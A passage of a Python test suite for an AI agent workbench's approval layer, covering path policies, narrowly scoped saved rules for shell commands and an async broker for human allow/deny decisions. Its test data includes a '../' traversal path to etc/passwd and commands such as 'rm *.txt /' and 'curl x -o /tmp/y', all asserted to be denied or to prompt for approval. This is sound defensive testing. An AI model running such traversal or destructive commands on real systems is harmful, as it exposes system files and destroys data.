        path = "../" * depth + "etc/passwd"
        assert files("files.read", path, root=root).decision == "deny"

    def test_symlinks_out_of_the_root(self, tmp_path: Path) -> None:
        root = tmp_path / "ws"
        (root / "docs").mkdir(parents=True)
        outside = tmp_path / "outside"
        outside.mkdir()
        os.symlink(outside, root / "docs" / "link")
        v = files("files.write", "docs/link/x.txt", root=root)
        assert v.decision == "ask"
        assert "symbolic link" in v.reason
        assert files("files.write", "docs/real.txt", root=root).decision == "allow"

    def test_defaults_with_escaping_paths(self) -> None:
        assert files("files.write", "../x", p=policy(default="allow")).decision == "ask"
        v = files("files.write", "../x", p=policy(default="deny"))
        assert v.decision == "deny"
        assert v.reason == "'../x' is outside the workspace and the policy default is deny"

    def test_lists_of_paths(self) -> None:
        assert files("files.write", ["docs/a", "docs/b"]).decision == "allow"
        v = files("files.write", ["docs/a", "src/b", "../c"])
        assert v.decision == "ask"
        assert v.unmatched == ["src/b", "../c"]
        assert v.reason == (
            "no rule allows 'src/b' (path 2 of 3); '../c' (path 3 of 3) is outside the workspace"
        )

    def test_not_a_path(self) -> None:
        assert files("files.read", 3).decision == "ask"
        assert files("files.read", ["a", 3]).decision == "ask"
        assert files("files.read", []).decision == "ask"
        assert files("files.read", "a\x00b").decision == "ask"

    def test_missing_path_uses_the_tool_rules(self) -> None:
        # The tool's default (e.g. list ".") applies: the bare tool rule decides.
        assert files("files.read", None).decision == "allow"
        assert FILES.evaluate("files.read", PATH, {}).decision == "allow"
        assert FILES.evaluate("files.write", PATH, {}).decision == "ask"

    def test_other_tools(self) -> None:
        assert FILES.evaluate("web.search", None, {"q": "x"}).reason == "policy default is ask"
        v = policy(allow=["web.search"]).evaluate("web.search", None, {})
        assert (v.decision, v.reason) == ("allow", "allowed by rule allow web.search")


# -- rules_for_decision --------------------------------------------------------------------


class TestRulesForDecision:
    def test_one_exact_rule_per_part_that_asked(self) -> None:
        cmd = "git status && rm *.txt && curl 'http://x?a=1'"
        v = shell(SAFE_POLICY, cmd)
        rules = rules_for_decision("shell.run", SHELL, {"cmd": cmd}, v, "session")
        assert [r.display() for r in rules] == [
            'allow shell.run "rm [*].txt"',
            "allow shell.run \"curl 'http://x[?]a=1'\"",
        ]
        assert all(r.scope == "session" and r.decision == "allow" for r in rules)
        assert SAFE_POLICY.rules_for_decision("shell.run", SHELL, {"cmd": cmd}, v, "always") == [
            Rule(r.tool, r.pattern, "allow", "always") for r in rules
        ]

    def test_saved_rules_stick_and_stay_narrow(self) -> None:
        cmd = "git status && rm *.txt && curl x"
        v = shell(SAFE_POLICY, cmd)
        rules = rules_for_decision("shell.run", SHELL, {"cmd": cmd}, v, "workspace")
        assert shell(SAFE_POLICY, cmd, rules).decision == "allow"
        assert shell(SAFE_POLICY, "rm a.txt", rules).decision == "ask"
        assert shell(SAFE_POLICY, "rm *.txt /", rules).decision == "ask"
        assert shell(SAFE_POLICY, "curl x; rm y", rules).unmatched == ["rm y"]
        assert shell(SAFE_POLICY, "curl x -o /tmp/y", rules).decision == "ask"

    def test_exact_rules_ignore_only_harmless_redirections(self) -> None:
        v = shell(SAFE_POLICY, "npm test")
        rules = rules_for_decision("shell.run", SHELL, {"cmd": "npm test"}, v, "session")
        assert shell(SAFE_POLICY, "npm test 2>&1", rules).decision == "allow"
        assert shell(SAFE_POLICY, "npm test 2>/dev/null", rules).decision == "allow"
        assert shell(SAFE_POLICY, "npm test > log", rules).decision == "ask"
        assert shell(SAFE_POLICY, "npm test 2>&1 > log", rules).decision == "ask"

    def test_nothing_to_save(self) -> None:
        v = shell(SAFE_POLICY, "curl x")
        assert rules_for_decision("shell.run", SHELL, {"cmd": "curl x"}, v, "once") == []
        allowed = shell(SAFE_POLICY, "ls")
        assert rules_for_decision("shell.run", SHELL, {"cmd": "ls"}, allowed, "session") == []
        bad = shell(SAFE_POLICY, "echo 'x")
        assert rules_for_decision("shell.run", SHELL, {"cmd": "echo 'x"}, bad, "session") == []

    def test_paths_and_other_tools(self, tmp_path: Path) -> None:
        args = {"path": ["./src/../notes.md", "../out.txt", "docs/a"]}
        v = FILES.evaluate("files.write", PATH, args, root=tmp_path)
        assert v.unmatched == ["notes.md", "../out.txt"]
        rules = rules_for_decision("files.write", PATH, args, v, "session", root=tmp_path)
        assert rules == [Rule("files.write", "notes.md", "allow", "session")]
        v = FILES.evaluate("web.fetch", None, {"url": "x"})
        assert rules_for_decision("web.fetch", None, {"url": "x"}, v, "always") == [
            Rule("web.fetch", None, "allow", "always")
        ]
        v = FILES.evaluate("files.write", PATH, {"path": "a[1].md"})
        rules = rules_for_decision("files.write", PATH, {"path": "a[1].md"}, v, "session")
        assert rules[0].pattern == "a[[]1].md"
        assert files("files.write", "a[1].md", p=policy(allow=[rules[0].config_text])).allowed
        assert not files("files.write", "a1.md", p=policy(allow=[rules[0].config_text])).allowed

    def test_a_saved_tool_rule_beats_a_config_ask(self) -> None:
        p = policy(ask=["web.fetch"])
        v = p.evaluate("web.fetch", None, {})
        rules = rules_for_decision("web.fetch", None, {}, v, "session")
        assert p.evaluate("web.fetch", None, {}, rules).decision == "allow"

    WORD = st.text(alphabet=st.sampled_from(list("ab*?[]$'\"-./=~ ")), min_size=1, max_size=6)

    @PROPS
    @given(st.lists(WORD, min_size=1, max_size=4), st.lists(WORD, min_size=1, max_size=4))
    def test_never_broader_than_the_parts_asked(self, first: list[str], second: list[str]) -> None:
        seen, other = " ".join(first), " ".join(second)
        try:
            seen_parts = split_shell(seen)
            other_parts = split_shell(other)
        except ShellParseError:
            return
        v = shell(SAFE_POLICY, seen)
        rules = rules_for_decision("shell.run", SHELL, {"cmd": seen}, v, "session")
        if shell_doubts(seen):
            # What bash may read otherwise always asks: no rule is offered for it.
            assert rules == [] and v.decision != "allow"
            return
        assert len(rules) == len(v.unmatched)
        # The saved rules allow what was seen (they stick) ...
        if v.decision == "ask" and seen_parts:
            assert shell(SAFE_POLICY, seen, rules).decision == "allow"
        # ... and nothing else: a part they allow must be one that was seen.
        bare = ApprovalPolicy()
        for part in other_parts:
            if shell(bare, part, rules).decision == "allow":
                assert part in seen_parts


# -- the broker ----------------------------------------------------------------------------


def pending(
    call_id: str, session_id: str = "s1", created_at: float | None = None
) -> PendingApproval:
    p = PendingApproval(call_id, "shell.run", {"cmd": "ls"}, session_id=session_id, run_id="r1")
    if created_at is not None:
        p.created_at = created_at
    return p


async def started(broker: ApprovalBroker, p: PendingApproval) -> asyncio.Task[Resolution]:
    task = asyncio.create_task(broker.request(p))
    for _ in range(10):
        await asyncio.sleep(0)
        if broker.get(p.run_id, p.call_id) is not None:
            break
    return task


class TestBroker:
    async def test_request_and_resolve(self) -> None:
        broker = ApprovalBroker()
        seen: list[tuple[str, str]] = []
        broker.subscribe(lambda kind, p: seen.append((kind, p.call_id)))
        p = pending("c1")
        task = await started(broker, p)
        assert broker.pending() == [p]
        assert p.future is not None and not p.resolved
        assert broker.resolve("r1", "c1", Resolution("allow", "session")) is True
        assert broker.pending() == []
        assert await task == Resolution("allow", "session")
        assert p.resolved
        assert broker.resolve("r1", "c1", Resolution("deny")) is False
        assert seen == [("added", "c1"), ("removed", "c1")]

    async def test_resolve_unknown(self) -> None:
        assert ApprovalBroker().resolve("r1", "nope", Resolution("allow")) is False

    async def test_deny_with_note_and_edited_arguments(self) -> None:
        broker = ApprovalBroker()
        task = await started(broker, pending("c1"))
        broker.resolve("r1", "c1", Resolution("allow", edited_arguments={"cmd": "ls -la"}))
        assert (await task).edited_arguments == {"cmd": "ls -la"}
        task = await started(broker, pending("c2"))
        broker.resolve("r1", "c2", Resolution("deny", note="not now", decided_by="web"))
        res = await task
        assert (res.decision, res.note, res.decided_by) == ("deny", "not now", "web")

    async def test_cancel_withdraws(self) -> None:
        broker = ApprovalBroker()
        seen: list[str] = []
        broker.subscribe(lambda kind, p: seen.append(kind))
        p = pending("c1")
        task = await started(broker, p)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert broker.pending() == []
        assert broker.resolve("r1", "c1", Resolution("allow")) is False
        assert seen == ["added", "removed"]
        assert p.future is not None and p.future.cancelled()

    async def test_resolve_from_another_thread(self) -> None:
        broker = ApprovalBroker()
        task = await started(broker, pending("c1"))
        results: list[bool] = []
        thread = threading.Thread(
            target=lambda: results.append(broker.resolve("r1", "c1", Resolution("allow")))
        )
        thread.start()
        res = await asyncio.wait_for(task, 5)
        thread.join()
        assert results == [True]
        assert res.decision == "allow"

    async def test_concurrent_resolves_only_one_wins(self) -> None:
        broker = ApprovalBroker()
        task = await started(broker, pending("c1"))
        outcomes = await asyncio.gather(
            *(asyncio.to_thread(broker.resolve, "r1", "c1", Resolution("allow")) for _ in range(8))
        )
        assert sorted(outcomes) == [False] * 7 + [True]
        assert (await task).decision == "allow"

    async def test_pending_is_newest_first_and_filters_by_session(self) -> None:
        broker = ApprovalBroker()
        a = pending("a", "s1", created_at=100.0)
        b = pending("b", "s2", created_at=300.0)
        c = pending("c", "s1", created_at=200.0)
        d = pending("d", "s1", created_at=200.0)  # same time: the later request is newer
        tasks = [await started(broker, p) for p in (a, b, c, d)]
        assert [p.call_id for p in broker.pending()] == ["b", "d", "c", "a"]
        assert [p.call_id for p in broker.pending("s1")] == ["d", "c", "a"]
        assert broker.get("r1", "c") is c and broker.get("r1", "zz") is None
        for p in (a, b, c, d):
            broker.resolve(p.run_id, p.call_id, Resolution("deny"))
        await asyncio.gather(*tasks)

    async def test_duplicate_call_id(self) -> None:
        broker = ApprovalBroker()
        task = await started(broker, pending("c1"))
        with pytest.raises(ValueError):
            await broker.request(pending("c1"))
        assert len(broker.pending()) == 1
        broker.resolve("r1", "c1", Resolution("allow"))
        await task

    async def test_the_same_call_id_in_two_runs_is_two_calls(self) -> None:
        """Models number their calls (``call_t2_0`` in every run): a decision names the run."""
        broker = ApprovalBroker()
        a = PendingApproval("call_t2_0", "shell.run", {"cmd": "ls"}, session_id="s1", run_id="ra")
        b = PendingApproval("call_t2_0", "shell.run", {"cmd": "pwd"}, session_id="s1", run_id="rb")
        ta, tb = await started(broker, a), await started(broker, b)
        assert {(p.run_id, p.call_id) for p in broker.pending()} == {
            ("ra", "call_t2_0"),
            ("rb", "call_t2_0"),
        }
        assert broker.get("rb", "call_t2_0") is b and broker.get("rc", "call_t2_0") is None
        assert broker.resolve("rc", "call_t2_0", Resolution("allow")) is False
        assert broker.resolve("rb", "call_t2_0", Resolution("deny", note="b")) is True
        assert (await tb).note == "b" and not ta.done()
        assert [p.run_id for p in broker.pending()] == ["ra"]
        assert broker.resolve("ra", "call_t2_0", Resolution("allow")) is True
        assert (await ta).decision == "allow"

    async def test_auto_decider(self) -> None:
        asked: list[str] = []

        def decide(p: PendingApproval) -> Resolution | None:
            asked.append(p.call_id)
            if p.tool == "web.search":
                return Resolution("allow", decided_by="--approve")
            return None

        broker = ApprovalBroker(auto_decider=decide)
        seen: list[str] = []
        broker.subscribe(lambda kind, p: seen.append(kind))
        res = await broker.request(PendingApproval("w1", "web.search", {"q": "x"}))
        assert res.decided_by == "--approve"
        assert seen == [] and broker.pending() == []
        task = await started(broker, pending("c1"))  # None: a person decides
        assert [p.call_id for p in broker.pending()] == ["c1"]
        broker.resolve("r1", "c1", Resolution("deny"))
        assert (await task).decision == "deny"
        assert asked == ["w1", "c1"]

    async def test_a_failing_auto_decider_denies(self, caplog: pytest.LogCaptureFixture) -> None:
        def boom(p: PendingApproval) -> Resolution | None:
            raise RuntimeError("boom")

        res = await ApprovalBroker(auto_decider=boom).request(pending("c1"))
        assert res.decision == "deny" and "boom" in (res.note or "")

    async def test_a_failing_listener_does_not_break_the_broker(
        self, caplog: pytest.LogCaptureFixture
    ) -> None:
        broker = ApprovalBroker()

        def bad(kind: str, p: PendingApproval) -> None:
            raise RuntimeError("listener bug")

        broker.subscribe(bad)
        seen: list[str] = []
        unsubscribe = broker.subscribe(lambda kind, p: seen.append(kind))
        task = await started(broker, pending("c1"))
        broker.resolve("r1", "c1", Resolution("allow"))
        await task
        assert seen == ["added", "removed"]
        assert "approval listener failed" in caplog.text
        unsubscribe()
        unsubscribe()
        task = await started(broker, pending("c2"))
        broker.resolve("r1", "c2", Resolution("allow"))
        await task
        assert seen == ["added", "removed"]

    async def test_pending_rules_for(self) -> None:
        cmd = "ls; curl x"
        v = shell(SAFE_POLICY, cmd)
        p = PendingApproval(
            "c1",
            "shell.run",
            {"cmd": cmd},
            reason=v.reason,
            parts=v.parts,
            verdict=v,
            match_on=SHELL,
        )
        assert p.rules_for("session") == [Rule("shell.run", "curl x", "allow", "session")]
        assert pending("c2").rules_for("session") == []

    async def test_events_round_trip(self) -> None:
        cmd = "ls; curl x"
        v = shell(SAFE_POLICY, cmd)
        p = PendingApproval(
            "c1", "shell.run", {"cmd": cmd}, v.reason, v.parts, None, "s1", "r1", "agent"
        )
        event = p.required_event()
        assert (event.type, event.call_id, event.parts, event.source) == (
            "approval.required",
            "c1",
            ["ls", "curl x"],
            "agent",
        )
        again = PendingApproval.from_event(event)
        assert (again.call_id, again.arguments, again.reason, again.session_id) == (
            "c1",
            {"cmd": cmd},
            v.reason,
            "s1",
        )
        saved = [Rule("shell.run", "curl x", "allow", "session")]
        done = p.resolved_event(Resolution("allow", "session"), saved)
        assert (done.decision, done.scope, done.rule) == (
            "allow",
            "session",
            'allow shell.run "curl x"',
        )
        assert p.resolved_event(Resolution("deny", note="no")).rule is None
        two = [Rule("shell.run", "ls", "allow", "session"), *saved]
        assert p.resolved_event(Resolution("allow", "session"), two).rule == (
            'allow shell.run "ls"; allow shell.run "curl x"'
        )

    async def test_one_record_on_the_wire(self) -> None:
        """The REST shape of a pending call is the record's: the server's out-model has the
        record's wire keys, and the client reads back what the server sent."""
        from workbench.events import ApprovalRequired
        from workbench.server._api import ApprovalOut

        assert tuple(ApprovalOut.model_fields) == PendingApproval.WIRE_FIELDS
        event = ApprovalRequired(
            session_id="s1",
            run_id="r1",
            source="agent",
            call_id="call_t2_0",
            tool="shell.run",
            arguments={"cmd": "echo '<b>' \x1b[31m"},
            reason="no rule allows it",
            parts=["echo '<b>' \x1b[31m"],
            diff=None,
            seq=7,
            ts=1700000000.5,
        )
        p = PendingApproval.from_event(event)
        wire = ApprovalOut.model_validate(p.to_json()).model_dump(mode="json")
        assert list(wire) == list(PendingApproval.WIRE_FIELDS)
        assert (wire["seq"], wire["ts"], wire["source"]) == (7, 1700000000.5, "agent")
        back = PendingApproval.from_json(wire)
        assert back.key == p.key == ("r1", "call_t2_0")
        assert back.to_json() == p.to_json() == wire
        # the event the record announces itself with says what the wire says
        again = back.required_event()
        assert (again.call_id, again.arguments, again.parts, again.reason) == (
            event.call_id,
            event.arguments,
            event.parts,
            event.reason,
        )

    def test_session_rules(self) -> None:
        broker = ApprovalBroker()
        r1 = Rule("shell.run", "curl x", "allow", "session")
        r2 = Rule("shell.run", "ls", "allow", "always")
        assert broker.add_session_rules("s1", [r1, r2, r1]) == [
            r1,
            Rule("shell.run", "ls", "allow", "session"),
        ]
        assert broker.add_session_rules("s1", [r1]) == []
        assert broker.session_rules("s2") == []
        assert shell(SAFE_POLICY, "curl x", broker.session_rules("s1")).decision == "allow"
        assert shell(SAFE_POLICY, "curl x", broker.session_rules("s2")).decision == "ask"
        assert broker.remove_session_rule("s1", r1) is True
        assert broker.remove_session_rule("s1", r1) is False
        assert broker.session_rules("s1") == [Rule("shell.run", "ls", "allow", "session")]
        broker.clear_session("s1")
        assert broker.session_rules("s1") == []

    def test_resolution_validation(self) -> None:
        with pytest.raises(ValueError):
            Resolution("ask")  # type: ignore[arg-type]
        with pytest.raises(ValueError):
            Resolution("allow", "forever")  # type: ignore[arg-type]


# -- import hygiene ------------------------------------------------------------------------


def test_imports_nothing_heavy() -> None:
    code = (
        "import sys, workbench; before = set(sys.modules); import workbench.approvals; "
        "new = set(sys.modules) - before; "
        "print(sorted(m for m in ('textual', 'litellm', 'asyncio', 'pydantic') if m in new))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "[]"
